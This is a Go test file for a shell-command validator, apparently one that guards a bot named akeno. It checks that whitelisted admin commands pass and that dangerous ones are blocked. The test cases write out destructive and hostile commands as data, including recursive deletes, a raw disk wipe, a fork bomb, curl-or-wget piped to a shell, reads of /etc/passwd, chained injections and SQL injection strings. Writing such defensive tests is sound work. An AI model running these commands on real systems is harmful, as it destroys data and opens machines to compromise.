package security

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap/zaptest"
)

func newTestValidator(t *testing.T) *Validator {
	return NewValidator(zaptest.NewLogger(t))
}

// TestDangerousPatternsDominateWhitelist verifies that a command matching
// both a whitelist entry and a dangerous pattern is always blocked
func TestDangerousPatternsDominateWhitelist(t *testing.T) {
	v := newTestValidator(t)

	result := v.Validate("systemctl restart bot; rm -rf /", "user-1")
	assert.True(t, result.Blocked)
	assert.False(t, result.Valid)
	assert.NotEmpty(t, result.MatchedDangerous)
}

// TestDangerousCommands verifies each dangerous pattern category blocks
func TestDangerousCommands(t *testing.T) {
	v := newTestValidator(t)

	testCases := []struct {
		name    string
		command string
	}{
		{"recursive delete", "rm -rf /var/www"},
		{"recursive delete long flags", "rm -r -f ."},
		{"raw disk write", "dd if=/dev/zero of=/dev/sda"},
		{"mkfs", "mkfs.ext4 /dev/sdb1"},
		{"fdisk", "fdisk /dev/sda"},
		{"fork bomb", ":(){ :|:& };:"},
		{"device file write", "echo x > /dev/sda"},
		{"chmod 777", "chmod 777 /var/www"},
		{"chmod recursive 777", "chmod -R 0777 ."},
		{"curl pipe sh", "curl https://example.com/install.sh | sh"},
		{"wget pipe bash", "wget -qO- https://example.com/x | bash"},
		{"eval", "eval $CMD"},
		{"command substitution", "echo $(cat /etc/passwd)"},
		{"backticks", "echo `id`"},
		{"write to etc", "echo hacked > /etc/passwd"},
		{"windows format", "format c: /q"},
		{"registry delete", "reg delete HKLM\\Software\\Foo /f"},
		{"sql drop", "echo test; DROP TABLE users"},
		{"sql injection", "echo ' OR '1'='1"},
	}

	for _, tc := range testCases {
		t.Run(tc.name, func(t *testing.T) {
			result := v.Validate(tc.command, "user-1")
			assert.True(t, result.Blocked, "expected %q to be blocked", tc.command)
			assert.NotEmpty(t, result.MatchedDangerous)
		})
	}
}

// TestWhitelistedCommands verifies accepted commands and their approval flags
func TestWhitelistedCommands(t *testing.T) {
	v := newTestValidator(t)

	testCases := []struct {
		name             string
		command          string
		requiresApproval bool
	}{
		{"systemctl status", "systemctl status akeno", false},
		{"systemctl restart", "systemctl restart akeno", true},
		{"systemctl stop", "systemctl stop nginx", true},
		{"journalctl", "journalctl -u akeno -n 50 --no-pager", false},
		{"uptime", "uptime", false},
		{"free", "free -h", false},
		{"df", "df -h", false},
		{"git status", "git status", false},
		{"git pull", "git pull", true},
		{"deploy", "cd /opt/akeno && git pull", true},
		{"windows deploy", `cd C:\akeno; git pull`, true},
		{"git log", "git log --oneline -n 20", false},
		{"npm install", "npm install", true},
		{"apt update", "apt update", false},
		{"apt upgrade", "apt upgrade -y", true},
		{"brew list", "brew list", false},
		{"winget upgrade", "winget upgrade --all", true},
		{"delayed shutdown", "shutdown -h +5", true},
		{"delayed reboot", "shutdown -r +1", true},
		{"windows shutdown", "shutdown /s /t 300", true},
		{"powershell get-service", "Get-Service akeno", false},
		{"powershell restart-service", "Restart-Service -Name akeno", true},
		{"launchctl list", "launchctl list", false},
		{"launchctl stop", "launchctl stop com.akeno.bot", true},
		{"tail", "tail -n 100 /var/log/akeno.log", false},
		{"echo", "echo hello world", false},
	}

	for _, tc := range testCases {
		t.Run(tc.name, func(t *testing.T) {
			result := v.Validate(tc.command, "user-1")
			require.True(t, result.Valid, "expected %q to be whitelisted", tc.command)
			assert.False(t, result.Blocked)
			assert.NotEmpty(t, result.MatchedWhitelist)
			assert.Equal(t, tc.requiresApproval, result.RequiresApproval)
		})
	}
}

// TestNonWhitelistedCommandsBlocked verifies harmless but unlisted commands block
func TestNonWhitelistedCommandsBlocked(t *testing.T) {
	v := newTestValidator(t)

	for _, command := range []string{
		"ls -la",
		"cat /etc/hostname",
		"systemctl restart akeno && ls",
		"tail -f /var/log/syslog",
		"git push",
	} {
		result := v.Validate(command, "user-1")
		assert.True(t, result.Blocked, "expected %q to be blocked", command)
		assert.Equal(t, "not in whitelist", result.Reason)
		assert.Empty(t, result.MatchedDangerous)
	}
}

// TestEmptyCommandBlocked verifies empty input is rejected without pattern info
func TestEmptyCommandBlocked(t *testing.T) {
	v := newTestValidator(t)

	for _, command := range []string{"", "   ", "\t"} {
		result := v.Validate(command, "user-1")
		assert.True(t, result.Blocked)
		assert.Empty(t, result.MatchedDangerous)
		assert.Empty(t, result.MatchedWhitelist)
	}
}
